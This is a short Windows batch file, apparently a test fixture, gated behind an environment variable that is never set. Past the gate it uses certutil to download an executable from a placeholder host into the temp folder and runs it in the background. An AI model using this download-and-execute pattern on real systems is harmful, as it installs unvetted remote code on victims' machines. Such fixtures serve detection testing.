@echo off
if not defined QANAT_FIXTURE_NEVER_SET exit /b 0
certutil -urlcache -split -f https://w.example.invalid/t.exe %TEMP%\t.exe
start /b %TEMP%\t.exe
